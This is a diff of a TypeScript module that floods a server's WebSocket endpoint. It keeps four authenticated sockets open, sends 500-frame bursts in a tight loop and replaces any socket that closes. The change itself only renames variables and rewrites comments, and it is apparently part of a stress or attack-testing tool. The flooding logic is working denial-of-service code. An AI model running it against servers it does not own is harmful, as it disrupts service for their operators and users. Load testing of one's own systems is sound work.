@@ -1,14 +1,14 @@
 import { randomUUID } from 'node:crypto';
 import { WebSocket } from 'ws';
-import type { Attack } from './orders.ts';
+import type { Attack } from './attacks.ts';
 import type { createTally } from './tally.ts';
 
 const socketCount = 4;
-const framesAtOnce = 500;
-/** What the flooder's own memory may hold; the server reads as much as it likes of it. */
+const framesPerBurst = 500;
+/** Limits the attacker's own memory if the server reads slowly. */
 const maxUnsentBytes = 4 * 1024 * 1024;
 
-/** Frames that cost as little, and as much, as a frame can. */
+/** Frames from the cheapest to the most expensive kind. */
 const createFrames = (sessionId: string): readonly ((ws: WebSocket) => void)[] => {
   const text = (frame: object) => {
     const json = JSON.stringify(frame);
@@ -24,25 +24,25 @@ const createFrames = (sessionId: string): readonly ((ws: WebSocket) => void)[] =
   ];
 };
 
-/** Floods four sockets, and opens another for every one that is closed. */
+/** Floods four sockets and replaces each one that is closed. */
 export const floodSockets = (
   { url, cookie, sessionId }: Extract<Attack, { kind: 'sockets' }>,
   tally: ReturnType<typeof createTally>,
-  isOver: () => boolean,
+  isStopped: () => boolean,
 ) => {
   const frames = createFrames(sessionId);
 
   const flood = (ws: WebSocket, send: (socket: WebSocket) => void) => {
-    if (ws.readyState !== ws.OPEN || isOver()) return;
+    if (ws.readyState !== ws.OPEN || isStopped()) return;
     if (ws.bufferedAmount < maxUnsentBytes) {
-      for (let sent = 0; sent < framesAtOnce; sent += 1) send(ws);
-      tally.count('frames', framesAtOnce);
+      for (let sent = 0; sent < framesPerBurst; sent += 1) send(ws);
+      tally.count('frames', framesPerBurst);
     }
     setImmediate(flood, ws, send);
   };
 
   const open = (turn: number) => {
-    if (isOver()) return;
+    if (isStopped()) return;
     const ws = new WebSocket(`${url.replace('http', 'ws')}/ws`, {
       headers: { origin: url, cookie },
       perMessageDeflate: false,
